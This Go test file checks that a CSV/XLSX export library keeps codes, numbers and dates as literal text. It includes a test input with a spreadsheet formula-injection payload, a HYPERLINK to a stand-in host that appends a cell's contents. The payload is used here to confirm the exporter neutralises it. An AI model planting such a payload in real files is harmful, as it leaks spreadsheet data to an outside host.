package export_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"habilis/internal/export"
)

// TestNoCodeBecomesAFormula: whatever a code holds, its cell is the text or a formula of that very text.
func TestNoCodeBecomesAFormula(t *testing.T) {
	for _, text := range []string{
		`1mai"&HYPERLINK("http://example.invalid/?"&A1;"x")&"`, `12"`, `1/2"+1`, `01"&A1&"`, `"1mai`, `1 janv"`, `0123`, `1mai`,
	} {
		var b bytes.Buffer
		require.NoError(t, export.CSV(&b, export.Table{
			Header: []string{"Code"}, Kinds: []export.Kind{export.Code},
			Rows: func(row func(cells []string) error) error { return row([]string{text}) },
		}))
		cell := strings.TrimSuffix(strings.SplitN(b.String(), "\r\n", 3)[1], "\r\n")
		cell = strings.ReplaceAll(strings.Trim(cell, `"`), `""`, `"`)
		if strings.HasPrefix(cell, "=") {
			assert.Equal(t, `="`+text, strings.TrimSuffix(cell, `"`), text)
			assert.NotContains(t, text, `"`)
		}
	}
}

// TestEveryDigitCounts: issue C2. What a spreadsheet would take for a number, a day, an hour or a truth keeps its own letters; names stay as they are.
func TestEveryDigitCounts(t *testing.T) {
	cell := func(text string) string {
		var b bytes.Buffer
		require.NoError(t, export.CSV(&b, export.Table{
			Header: []string{"Code"}, Kinds: []export.Kind{export.Code},
			Rows: func(row func(cells []string) error) error { return row([]string{text}) },
		}))
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
		r.Comma = ';'
		all, err := r.ReadAll()
		require.NoError(t, err)
		return all[1][0]
	}
	for _, text := range []string{
		"007", "12345678901234", "1e5", "1E05", "1,5", "1.50", "(12)", "( 12 )", ".5", ",5", "5 €", "5€", "€5", "$ 12", "12 EUR", "5 %", "5%", "1:30", "1:30 PM", "1:30:00 am", "12 a",
		"1 000", "1\u202f000", "1\u00a0000", "1'000", "3/4", "12-03", "12.03.24", "1 mars", "12 décembre 2024", "déc. 24", "mars-24", "mai 2024", "March 5, 2024", "5-Mar", "VRAI", "false",
		"36 31", "06 12 34 56 78",
	} {
		assert.Equal(t, `="`+text+`"`, cell(text), "%q", text)
	}
	for _, text := range []string{
		"1", "12345678901", "FR40303265045", "3 Suisses", "Mars SA", "Mai", "12A", "1er étage", "2 rue des Lilas", "A1", "Décembre", "Euro", "Vraie", "Maison 12 bis", "Marseille 13", "Julie 3e",
	} {
		assert.Equal(t, text, cell(text), "%q", text)
	}
}

// TestXLSXOfOldDays: a day that workbooks number otherwise, or not at all, is a text that reads as the day it is.
func TestXLSXOfOldDays(t *testing.T) {
	var b bytes.Buffer
	days := map[string]string{"1850-01-02": "02/01/1850", "1900-01-01": "01/01/1900", "1900-02-28": "28/02/1900", "1900-03-01": "01/03/1900", "2024-02-29": "29/02/2024"}
	names := slices.Sorted(maps.Keys(days))
	require.NoError(t, export.XLSX(&b, t.TempDir(), export.Table{Title: "x", Header: []string{"Jour"}, Kinds: []export.Kind{export.Day}, Count: len(days), Rows: func(row func([]string) error) error {
		for _, day := range names {
			if err := row([]string{day}); err != nil {
				return err
			}
		}
		return nil
	}}))
	f, err := excelize.OpenReader(&b)
	require.NoError(t, err)
	for i, day := range names {
		cell, err := f.GetCellValue("x", fmt.Sprintf("A%d", i+2))
		require.NoError(t, err)
		assert.Equal(t, days[day], cell)
	}
	require.NoError(t, f.Close())
}
